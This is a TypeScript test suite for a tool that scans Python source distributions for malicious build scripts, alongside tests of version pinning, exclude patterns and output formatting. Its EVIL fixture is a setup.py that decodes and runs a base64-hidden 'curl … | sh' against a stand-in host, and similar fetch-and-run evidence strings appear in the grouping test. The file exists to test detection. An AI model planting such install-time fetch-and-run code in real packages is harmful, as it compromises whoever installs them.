// What a maintainer sees, through the CLI against a real index on 127.0.0.1: the version to pin for
// an sdist, findings told once per place, repeated problems folded, colour by the usual conventions,
// a progress line whose counters only move forward, `exclude`, and `inspect` of a folder of downloads.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { startIndexServer } from './helpers/index-server.js';
import { gzip, makeSdist, makeTar, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';
import { tables } from './helpers/gfm.js';
import { globToRegExp, pathMatcher } from '../src/glob.js';
import { wheelPin } from '../src/pin.js';
import { makeTarget } from '../src/python/tags.js';
import { wantColor } from '../src/report/text.js';
import { groupFindings } from '../src/report/findings.js';

const EVIL = `
import subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;

describe('wheelPin', () => {
  const linux = makeTarget('3.12', 'linux');
  const windows = makeTarget('3.12', 'windows');
  const file = (filename: string, extra: object = {}) => ({ filename, url: `https://x/${filename}`, hashes: {}, yanked: false as boolean | string, ...extra });

  it('names the newest version with a wheel for every target', () => {
    const files = [file('p-1.0-py3-none-any.whl'), file('p-2.0-cp312-cp312-manylinux_2_17_x86_64.whl'), file('p-2.0.tar.gz'), file('p-1.5-py3-none-any.whl', { yanked: 'bad' })];
    expect(wheelPin('p', files, [linux])).toEqual({ version: '2.0' });
    expect(wheelPin('p', files, [linux, windows])).toEqual({ version: '1.0' });
  });
  it('skips pre-releases unless asked, and files whose Requires-Python excludes a target', () => {
    const files = [file('p-1.0-py3-none-any.whl'), file('p-3.0b1-py3-none-any.whl'), file('p-2.0-py3-none-any.whl', { requiresPython: '>=3.13' })];
    expect(wheelPin('p', files, [linux])).toEqual({ version: '1.0' });
    expect(wheelPin('p', files, [linux], { pre: true })).toEqual({ version: '3.0b1' });
  });
  it('names the targets no version has a wheel for, or none when no one version has them all', () => {
    expect(wheelPin('p', [file('p-1.0.tar.gz'), file('p-1.0-cp312-cp312-win_amd64.whl')], [linux, windows])).toEqual({ missing: ['CPython 3.12 on manylinux_2_39_x86_64'] });
    expect(wheelPin('p', [file('p-1.0-cp312-cp312-win_amd64.whl'), file('p-2.0-cp312-cp312-manylinux_2_17_x86_64.whl')], [linux, windows])).toEqual({ missing: [] });
  });
});

describe('exclude patterns', () => {
  it.each([
    ['tests/fixtures/**', 'tests/fixtures/a/poetry.lock', true],
    ['tests/fixtures', 'tests/fixtures/a/poetry.lock', true],
    ['tests/fixtures/', 'tests/fixtures', true],
    ['tests/fixtures/**', 'src/tests/fixtures/a.txt', false],
    ['poetry.lock', 'a/b/poetry.lock', true],
    ['*.in', 'requirements/dev.in', true],
    ['requirements/*.in', 'requirements/sub/dev.in', false],
    ['**/docs/*.txt', 'a/docs/req.txt', true],
    ['**/docs/*.txt', 'docs/req.txt', true],
    ['/docs', 'docs/requirements.txt', true],
    ['docs', 'mydocs/requirements.txt', false],
    ['req?.txt', 'req1.txt', true],
    ['a+b(c).txt', 'a+b(c).txt', true],
  ])('%s on %s: %s', (pattern, path, matches) => {
    expect(pathMatcher([pattern])(path)).toBe(matches);
  });
  it('rejects an empty pattern', () => {
    expect(() => globToRegExp(' ')).toThrow(/not a path pattern/);
  });
});

describe('findings told once per place', () => {
  it('groups one payload into one row per behaviour, with its evidence once', () => {
    const f = (rule: string, line: number, evidence: string, severity: 'critical' | 'high' = 'high') => ({ rule, severity, path: 'setup.py', line, message: `${rule} at http://203.0.113.7/x`, evidence });
    const places = groupFindings([
      f('dynamic-exec', 7, 'exec(payload)', 'critical'),
      f('dynamic-exec', 9, 'exec(payload)', 'critical'),
      f('encoded-blob', 5, 'curl http://evil.example/a | sh'),
      f('encoded-blob', 6, 'curl http://evil.example/a | sh'),
      f('callback-host', 5, 'http://evil.example/a'),
    ]);
    expect(places).toHaveLength(1);
    expect(places[0].behaviours.map((b) => [b.rule, b.lines])).toEqual([
      ['dynamic-exec', [7, 9]],
      ['callback-host', [5]],
      ['encoded-blob', [5, 6]],
    ]);
    expect(places[0].behaviours[0].message).toBe('dynamic-exec at hxxp://203[.]0[.]113[.]7/x');
    expect(places[0].evidence).toEqual([
      { lines: [5, 6], text: 'curl hxxp://evil[.]example/a | sh' },
      { lines: [7, 9], text: 'exec(payload)' },
    ]);
  });
});

describe('colour', () => {
  it.each([
    [{}, true, true],
    [{}, false, false],
    [{ NO_COLOR: '1' }, true, false],
    [{ NO_COLOR: '1', FORCE_COLOR: '1' }, true, false],
    [{ FORCE_COLOR: '1' }, false, true],
    [{ FORCE_COLOR: '0' }, true, false],
    [{ TERM: 'dumb' }, true, false],
  ])('env %j, terminal %s: %s', (env, tty, expected) => {
    expect(wantColor(env, tty)).toBe(expected);
  });
});

describe('the CLI, what a maintainer reads', () => {
  let server: Awaited<ReturnType<typeof startIndexServer>>;
  beforeAll(async () => {
    server = await startIndexServer({
      projects: {
        pinme: [makeWheel('pinme', '1.0'), makeSdist('pinme', '1.1')],
        onlysdist: [makeSdist('onlysdist', '0.5')],
        evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })],
        good: [makeWheel('good', '1.0')],
      },
    });
  });
  afterAll(async () => {
    await server.close();
  });

  it('names the version to pin, or that none has wheels, in every format', async () => {
    const project = makeProject({ 'requirements.txt': 'pinme\nonlysdist\n' });
    try {
      const args = ['scan', '.', '--index-url', server.indexUrl, '--no-cache', '--fail-on', 'sdist'];
      const text = await runCli(args, { cwd: project.dir });
      expect(text.code).toBe(1);
      expect(text.stdout).toMatch(/→ Pin pinme==1\.0: the newest version with wheels for every target/);
      expect(text.stdout).toMatch(/→ No version has wheels for CPython 3\.12 on manylinux_2_39_x86_64/);
      const markdown = (await runCli([...args, '--format', 'markdown'], { cwd: project.dir })).stdout;
      expect(markdown).toMatch(/- 📦 \*\*pinme 1\.1\*\*: Pin `pinme==1\.0`: the newest version with wheels for every target/);
      const json = JSON.parse((await runCli([...args, '--format', 'json'], { cwd: project.dir })).stdout);
      expect(json.dependencies.find((d: { name: string }) => d.name === 'pinme').wheelPin).toEqual({ version: '1.0' });
      expect(json.dependencies.find((d: { name: string }) => d.name === 'onlysdist').wheelPin).toEqual({ missing: ['CPython 3.12 on manylinux_2_39_x86_64'] });
      const sarif = JSON.parse((await runCli([...args, '--format', 'sarif'], { cwd: project.dir })).stdout);
      expect(sarif.runs[0].results.map((r: { message: { text: string } }) => r.message.text).join('\n')).toMatch(/Pin pinme==1\.0/);
    } finally {
      project.cleanup();
    }
  });

  it('leads the summary with what fails, tells remedies, folds manifests and repeated problems', async () => {
    const lines = '--find-links ./wheels\nevil==1.0\n';
    const project = makeProject({ 'a/requirements.txt': lines, 'b/requirements.txt': lines, 'c/requirements.txt': '--find-links ./wheels\ngood==1.0\n' });
    try {
      const md = await runCli(['scan', '.', '--index-url', server.indexUrl, '--no-cache', '--format', 'markdown'], { cwd: project.dir });
      const out = md.stdout;
      // the first table is what fails, before the counts
      const all = tables(out);
      const first = all[0];
      const counts = all.find((t) => t[0][1] === 'Count')!;
      expect(first[0]).toEqual(['Status', 'Package', 'Version', 'Declared in', 'Why']);
      expect(first.slice(1).map((r) => r.slice(0, 4))).toEqual([['🛑 suspicious', 'evil', '1.0', 'a/requirements.txt:2 b/requirements.txt:2']]);
      expect(counts[0]).toEqual(['Status', 'Count', 'Meaning']);
      expect(out.indexOf('**What to do**')).toBeLessThan(out.indexOf('| Status | Count |'));
      expect(out).toMatch(/treat that machine’s secrets as stolen/);
      expect(out).toMatch(/<details><summary>3 manifests read<\/summary>/);
      expect(out).toMatch(/- warning \(3 times\): --find-links locations are not searched/);
      // one payload: process-run, suspicious-command, callback-host; the decoded command once
      const findings = all.find((t) => t[0][0] === 'Where')!;
      expect(findings[0]).toEqual(['Where', 'Severity', 'What it does']);
      expect(findings.slice(1).map((r) => r[0])).toEqual(['setup.py:5', 'setup.py:5', 'setup.py:4, 5']);
      expect(out.match(/curl -s hxxp:\/\/203\[\.\]0\[\.\]113\[\.\]7\/a\.sh \| sh/g)).toHaveLength(1);
      expect(out).not.toMatch(/http:\/\/203\.0\.113\.7/);

      const text = await runCli(['scan', '.', '--index-url', server.indexUrl, '--no-cache'], { cwd: project.dir });
      expect(text.stdout.match(/--find-links locations are not searched/g)).toHaveLength(1);
      expect(text.stdout).toMatch(/warning \(3 times\): a\/requirements\.txt, b\/requirements\.txt, c\/requirements\.txt: --find-links/);
    } finally {
      project.cleanup();
    }
  });

  it('colours on a terminal and with FORCE_COLOR, never with NO_COLOR or when piped', async () => {
    const project = makeProject({ 'requirements.txt': 'evil==1.0\n' });
    try {
      const args = ['scan', '.', '--index-url', server.indexUrl, '--no-cache'];
      const piped = await runCli(args, { cwd: project.dir });
      expect(piped.stdout).not.toContain('\x1b[');
      const tty = await runCli(args, { cwd: project.dir, stdoutIsTTY: true });
      expect(tty.stdout).toContain('\x1b[31m\x1b[1msuspicious');
      expect(tty.stdout).toMatch(/\x1b\[31m\x1b\[1mFAIL\x1b\[22m\x1b\[39m: /);
      const noColor = await runCli(args, { cwd: project.dir, stdoutIsTTY: true, env: { NO_COLOR: '1' } });
      expect(noColor.stdout).not.toContain('\x1b[');
      const forced = await runCli(args, { cwd: project.dir, env: { FORCE_COLOR: '1' } });
      expect(forced.stdout).toContain('\x1b[31m');
      const toFile = await runCli([...args, '--output', 'out.txt'], { cwd: project.dir, env: { FORCE_COLOR: '1' } });
      expect(toFile.stdout).toBe('');
    } finally {
      project.cleanup();
    }
  });

  it('draws a progress line whose counters never go back', async () => {
    const project = makeProject({ 'requirements.txt': 'pinme\nonlysdist\nevil==1.0\ngood==1.0\n' });
    try {
      const r = await runCli(['scan', '.', '--index-url', server.indexUrl, '--no-cache'], { cwd: project.dir, isTTY: true });
      const frames = r.stderr.split('\r\x1b[2K').filter(Boolean);
      expect(frames.length).toBeGreaterThan(1);
      let last = { checked: 0, total: 0, pages: 0 };
      for (const f of frames) {
        const checked = f.match(/checked (\d+)\/(\d+)/);
        const pages = f.match(/resolving: (\d+) project page/);
        if (checked) {
          const now = { checked: Number(checked[1]), total: Number(checked[2]), pages: last.pages };
          expect(now.checked).toBeGreaterThanOrEqual(last.checked);
          expect(now.total).toBeGreaterThanOrEqual(last.total);
          expect(now.checked).toBeLessThanOrEqual(now.total);
          last = now;
        } else if (pages) {
          expect(Number(pages[1])).toBeGreaterThanOrEqual(last.pages);
          last = { ...last, pages: Number(pages[1]) };
        } else expect(f).toMatch(/^reading manifests…$/);
      }
      // the four declared, and the build requirements of the three sdists among them
      expect(last.checked).toBe(last.total);
      expect(last.checked).toBe(7);
    } finally {
      project.cleanup();
    }
  });

  it('leaves out what exclude names, from the flag and from the configuration file', async () => {
    const project = makeProject({
      'requirements.txt': 'good==1.0\n',
      'tests/fixtures/broken/poetry.lock': 'this is [not toml',
      'tests/fixtures/evil/requirements.txt': 'evil==1.0\n',
    });
    try {
      const args = ['scan', '.', '--index-url', server.indexUrl, '--no-cache', '--format', 'json'];
      const all = JSON.parse((await runCli(args, { cwd: project.dir })).stdout);
      expect(all.manifests).toEqual(['requirements.txt', 'tests/fixtures/broken/poetry.lock', 'tests/fixtures/evil/requirements.txt']);
      const flag = await runCli([...args, '--exclude', 'tests/fixtures/**'], { cwd: project.dir });
      expect(flag.code).toBe(0);
      expect(JSON.parse(flag.stdout).manifests).toEqual(['requirements.txt']);
      writeFileSync(join(project.dir, 'sdist-guard.toml'), 'exclude = ["tests/fixtures"]\n');
      const config = await runCli(args, { cwd: project.dir });
      expect(config.code).toBe(0);
      expect(JSON.parse(config.stdout).manifests).toEqual(['requirements.txt']);
      writeFileSync(join(project.dir, 'sdist-guard.toml'), 'exclude = 3\n');
      const bad = await runCli(args, { cwd: project.dir });
      expect(bad.code).toBe(2);
      expect(bad.stderr).toMatch(/sdist-guard\.toml:1: exclude must be a string or an array of strings/);
      rmSync(join(project.dir, 'sdist-guard.toml'));
      const empty = await runCli([...args, '--exclude', ' '], { cwd: project.dir });
      expect(empty.code).toBe(2);
      expect(empty.stderr).toMatch(/--exclude: " " is not a path pattern/);
    } finally {
      project.cleanup();
    }
  });
});

describe('inspect', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'sdist-guard-downloads-'));
    const evil = makeSdist('evil', '1.0', { 'setup.py': EVIL });
    const clean = makeSdist('clean', '2.0');
    writeFileSync(join(dir, evil.filename), evil.data);
    writeFileSync(join(dir, clean.filename), clean.data);
    // an sdist with no build script of its own: only metadata and a pyproject.toml naming a backend
    const noScript = gzip(
      makeTar([
        { name: 'bare-1.0/', type: '5' },
        { name: 'bare-1.0/PKG-INFO', content: 'Metadata-Version: 2.1\nName: bare\nVersion: 1.0\n' },
        { name: 'bare-1.0/pyproject.toml', content: '[build-system]\nrequires = ["flit_core"]\nbuild-backend = "flit_core.buildapi"\n' },
      ]),
    );
    writeFileSync(join(dir, 'bare-1.0.tar.gz'), noScript);
    const wheel = makeWheel('good', '1.0');
    writeFileSync(join(dir, wheel.filename), wheel.data);
    writeFileSync(join(dir, 'notes.txt'), 'not an archive');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('inspects every archive in a folder of downloads, and says which has no build script', async () => {
    const r = await runCli(['inspect', '.'], { cwd: dir });
    expect(r.code).toBe(1);
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => /^\S/.test(l))).toEqual([
      'no build script  ./bare-1.0.tar.gz',
      'clean  ./clean-2.0.tar.gz',
      'SUSPICIOUS  ./evil-1.0.tar.gz',
      'wheel  ./good-1.0-py3-none-any.whl',
      '3 inspected: 1 suspicious, 0 incomplete (not read whole), 0 unreadable, 2 clean; 1 wheel not read',
    ]);
    expect(r.stdout).toMatch(/no setup\.py or in-tree build backend/);
    const json = JSON.parse((await runCli(['inspect', dir, '--format', 'json'], { cwd: '/' })).stdout);
    expect(json.results.map((x: { path: string; suspicious: boolean }) => [x.path.split('/').pop(), x.suspicious])).toEqual([
      ['bare-1.0.tar.gz', false],
      ['clean-2.0.tar.gz', false],
      ['evil-1.0.tar.gz', true],
    ]);
    expect(json.wheels).toEqual([`${dir}/good-1.0-py3-none-any.whl`]);
  });

  it('still reads an unpacked sdist directory as one sdist', async () => {
    const project = makeProject({ 'evil-1.0/setup.py': EVIL, 'evil-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n' });
    try {
      const r = await runCli(['inspect', 'evil-1.0'], { cwd: project.dir });
      expect(r.code).toBe(1);
      expect(r.stdout).toMatch(/^SUSPICIOUS {2}evil-1\.0$/m);
      const top = await runCli(['inspect', '.'], { cwd: project.dir });
      expect(top.stdout).toMatch(/^SUSPICIOUS {2}\.$/m);
    } finally {
      project.cleanup();
    }
  });
});
